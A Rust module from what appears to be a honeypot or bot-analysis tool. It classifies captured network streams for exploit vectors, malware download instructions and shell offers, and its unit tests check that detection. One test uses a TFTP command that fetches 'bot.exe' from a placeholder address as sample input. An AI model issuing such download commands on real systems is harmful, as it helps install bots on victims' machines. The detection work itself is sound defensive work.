//! What a client stream or datagram carried: its exploit vectors, download
//! instructions, shell offers and de-obfuscation record. Pure and
//! synchronous; the server runs it on the blocking pool (see
//! `server::analyse`), the micro-benchmarks call it directly.

use crate::instructions::{find_instructions, DownloadInstruction};
use crate::shell::ShellOffer;
use botscope_deobf::Record;

/// What an analysis looks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scope {
    /// Vectors, download instructions and shell offers.
    All,
    /// Vectors and shell offers only (the early search of a session that
    /// paused: its instructions are read when it ends).
    Shells,
}

/// What a client stream or datagram carried.
#[derive(Debug, Default)]
pub struct Analysis {
    /// Exploit vectors found, by name.
    pub vectors: Vec<String>,
    /// What matched, per vector.
    pub details: Vec<String>,
    /// Download instructions found (none for [`Scope::Shells`]).
    pub instructions: Vec<DownloadInstruction>,
    /// Shells its shellcode offers.
    pub offers: Vec<ShellOffer>,
    /// The de-obfuscation record (empty for [`Scope::Shells`]).
    pub deobf: Record,
}

/// Classifies `data` (a whole client stream, or with `udp135` one
/// Messenger datagram) and searches it as `scope` says.
pub fn analyse_payload(data: &[u8], udp135: bool, scope: Scope) -> Analysis {
    let findings = if udp135 {
        botscope_dissect::exploit::classify_udp135(data)
            .into_iter()
            .collect()
    } else {
        botscope_dissect::exploit::classify_stream(data)
    };
    let vectors = findings
        .iter()
        .map(|f| f.vector.name().to_string())
        .collect();
    let details = findings.iter().map(|f| f.detail.clone()).collect();
    Analysis {
        vectors,
        details,
        instructions: match scope {
            Scope::All => find_instructions(data),
            Scope::Shells => Vec::new(),
        },
        offers: crate::shell_session::offers_in(data),
        deobf: match scope {
            Scope::All => crate::deobf::payload_record(data),
            Scope::Shells => Record::default(),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The server skips the analysis of an empty stream and logs
    /// `Analysis::default()` instead: that must be what the analysis
    /// gives for it.
    #[test]
    fn an_empty_stream_gives_the_default_analysis() {
        for (udp135, scope) in [
            (false, Scope::All),
            (true, Scope::All),
            (false, Scope::Shells),
        ] {
            let a = analyse_payload(&[], udp135, scope);
            assert_eq!(a.vectors, Vec::<String>::new());
            assert_eq!(a.details, Vec::<String>::new());
            assert_eq!(a.instructions, Vec::new());
            assert_eq!(a.offers, Vec::new());
            assert!(!a.deobf.matched(), "no decoder matched");
            assert!(a.deobf.findings.is_empty());
        }
    }

    /// A stream with an instruction in it is not the default.
    #[test]
    fn a_stream_with_a_command_is_found() {
        let a = analyse_payload(b"tftp -i 10.1.2.3 GET bot.exe\r\n", false, Scope::All);
        assert_eq!(a.instructions.len(), 1);
        assert!(
            analyse_payload(b"tftp -i 10.1.2.3 GET bot.exe\r\n", false, Scope::Shells)
                .instructions
                .is_empty()
        );
    }
}
